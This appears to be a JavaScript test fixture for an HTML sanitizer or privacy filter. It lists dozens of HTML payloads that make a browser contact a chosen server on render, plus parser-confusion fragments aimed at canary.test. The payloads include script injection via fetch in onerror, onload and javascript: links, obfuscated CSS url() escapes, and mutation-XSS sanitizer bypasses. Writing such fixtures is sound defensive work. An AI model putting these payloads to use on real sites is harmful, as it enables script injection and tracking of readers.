// HTML that attacks its reader: it reaches a server when it is shown, or hides something that does. `at` is a server's name.

const svgImage = (/** @type {string} */ svg) => `data:image/svg+xml;base64,${btoa(svg)}`;
const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const connect = (/** @type {string} */ at) => `<link rel="preconnect" href="http://${at}/">`;
const quoted = (/** @type {string} */ html) => html.replaceAll("&", "&amp;").replaceAll('"', "&quot;");

/** @type {Record<string, (at: string) => string>} */
export const ATTACKS = {
  "a link that connects": connect,
  "a link that looks up a name": (at) => `<link rel=dns-prefetch href=//${at}>`,
  "a style sheet that connects": (at) => `<link rel="stylesheet preconnect" href="http://${at}/a.css">`,
  "links that load": (at) =>
    ["preload as=image", "prefetch", "prerender", "modulepreload", "icon", "manifest", "import", "stylesheet"]
      .map((rel) => `<link rel=${rel} href=http://${at}/a>`)
      .join(""),
  "a link in the head of a document": (at) => `<html><head>${connect(at)}</head><body>x</body></html>`,
  "a link in a frame of its own": (at) => `<iframe srcdoc="${quoted(connect(at))}"></iframe>`,
  "a link in a frame in a frame": (at) =>
    `<iframe srcdoc="${quoted(`<iframe srcdoc="${quoted(connect(at))}"></iframe>`)}"></iframe>`,
  "a link in a frame's data": (at) => `<iframe src="data:text/html,${encodeURIComponent(connect(at))}"></iframe>`,
  "a frame, an object, an embedded page": (at) =>
    `<iframe src=http://${at}/></iframe><object data=http://${at}/></object><embed src=http://${at}/><frameset><frame src=http://${at}/>`,
  "a link in a drawing": (at) => `<svg><foreignObject>${connect(at)}</foreignObject></svg>`,
  "a link of XHTML in a drawing": (at) =>
    `<svg ${NS}><foreignObject><link xmlns="http://www.w3.org/1999/xhtml" rel="preconnect" href="http://${at}/"/></foreignObject></svg>`,
  "a link in a drawing in an image": (at) =>
    `<img src="${svgImage(`<svg ${NS}><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><link rel="preconnect" href="http://${at}/"/></body></foreignObject><image href="http://${at}/a.png"/></svg>`)}">`,
  "a link in a formula": (at) => `<math><annotation-xml encoding="text/html">${connect(at)}</annotation-xml></math>`,
  "a link in a template": (at) =>
    `<template>${connect(at)}</template><div><template shadowrootmode=open>${connect(at)}</template></div>`,
  "a link where scripts are off": (at) => `<noscript>${connect(at)}</noscript>`,
  "a link behind a title's end": (at) => `<svg><title><style></title>${connect(at)}</style></title></svg>`,
  "a link in a style sheet of a drawing": (at) => `<svg><style><p title='</style>${connect(at)}'></style></svg>`,
  "a link in a style sheet's text": (at) => `<style>a{content:"</style${">"}${connect(at)}"}</style>`,
  "a link in an escaped style sheet": (at) => `<style>a{content:"\\3c/style>${connect(at)}"}</style>`,
  "a link in a comment": (at) => `<!--><!--->${connect(at)}-->`,
  "a link in text that ends": (at) =>
    ["textarea", "title", "xmp", "noembed", "noframes", "noscript", "iframe", "plaintext"]
      .map((tag) => `<${tag}><p title="</${tag}>${quoted(connect(at))}">`)
      .join(""),
  "a link in a drawing's data": (at) => `<svg><![CDATA[><p title="]]>${connect(at)}">]]></svg>`,
  "a link between namespaces": (at) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${quoted(connect(at))}">`,
  "a link in a form in a form": (at) => `<form><math><mtext></form><form><mglyph><style></math>${connect(at)}`,
  "a page's own settings": (at) =>
    `<base href=http://${at}/><meta http-equiv=refresh content="0;url=http://${at}/"><meta http-equiv=x-dns-prefetch-control content=on><meta http-equiv=link content="<http://${at}/>;rel=preconnect"><a href="http://${at}/">x</a>`,
  "links to follow": (at) =>
    `<meta http-equiv=x-dns-prefetch-control content=on><a href=http://${at}/ ping=http://${at}/>x</a><map name=m><area href=http://${at}/></map><svg><a xlink:href="http://${at}/"><text>x</text></a></svg>`,
  "pictures and sound": (at) =>
    `<img src=http://${at}/a.png srcset="http://${at}/b.png 2x" lowsrc=//${at}/><picture><source srcset=//${at}/c.png></picture><video src=//${at}/a poster=//${at}/b></video><audio src=//${at}/a><track src=//${at}/t></audio><input type=image src=//${at}/i><table background=//${at}/t><tr><td background=//${at}/d></table><body background=//${at}/e>`,
  "a drawing's parts": (at) =>
    `<svg ${NS}><image xlink:href="http://${at}/a.png"/><use href="http://${at}/a.svg#x"/><feImage href="http://${at}/a"/><script href="http://${at}/a.js"/><path fill="url(http://${at}/a#b)" clip-path="u\\72l(//${at}/b#c)" cursor="url(//${at}/d)"/><set attributeName="href" to="http://${at}/a"/></svg>`,
  "a style sheet's addresses": (at) =>
    `<style>@import "http://${at}/a.css"; @\\69mport url(http://${at}/b.css); @font-face{font-family:f;src:url(http://${at}/f.woff)} body{font-family:f;background:url(//${at}/a)} p{background-image:image-set("http://${at}/b" 1x);list-style:u\\52 l('//${at}/c');cursor:URL(//${at}/d),auto;--x:url(//${at}/e);mask:var(--x);content:src("//${at}/f")} @media all{p{background:-webkit-image-set(url(//${at}/g) 1x);border-image:cross-fade(url(//${at}/h), red)}}</style><p>x`,
  "a style's addresses": (at) =>
    `<p style="background:url(http://${at}/a)">x</p><p style="background:\\75\\72\\6c(//${at}/b)">x</p><p style="background:image-set('//${at}/c' 1x)">x</p><p style="background:url(#)url(//${at}/d)">x</p>`,
  scripts: (at) =>
    `<script src=http://${at}/a.js></script><script>fetch("http://${at}/")</script><img src=x onerror="fetch('http://${at}/')"><svg onload="fetch('http://${at}/')"><a href="javascript:fetch('http://${at}/')">x</a>`,
  speculation: (at) =>
    `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://${at}/"]}]}</script><link rel=expect href=#x><link rel=compression-dictionary href=http://${at}/d>`,
};

/** Parts that parsers disagree about. Tests put them together at random. */
export const pieces = [
  ..."<svg> </svg> <math> </math> <style> </style> <title> </title> <table> </table> <tr> <td> <p> </p> <b> </b> <a> </a> <desc>".split(
    " ",
  ),
  ..."<mtext> <mglyph> <foreignObject> </foreignObject> <annotation-xml> <select> </select> <option> <textarea> </textarea>".split(
    " ",
  ),
  ..."<template> </template> <noscript> </noscript> <iframe> </iframe> <form> </form> <xmp> </xmp> <!-- --> <![CDATA[ ]]>".split(
    " ",
  ),
  ..."<li> <ul> </ul> <caption> <colgroup> <nobr> <br/> <path/> <use/> <image> </image> <plaintext> <frameset> <body> <head>".split(
    " ",
  ),
  '<p title="',
  '">',
  "<a title='",
  "'>",
  '<link rel=preconnect href="//canary.test/">',
  "<img src=//canary.test/ onerror=1>",
  '<p id="</style><link rel=preconnect href=//canary.test>">',
  '<i class="--><link rel=preconnect href=//canary.test>">',
  '<path fill="url(//canary.test)" d="M0 0">',
  '<p style="background:u\\72l(//canary.test)">',
  "a{background:url(//canary.test)}",
  '@import "//canary.test";',
  "url(",
  "\\",
  '"',
  "/*",
  "*/",
  "x",
  "\0",
  "&lt;link&gt;",
];
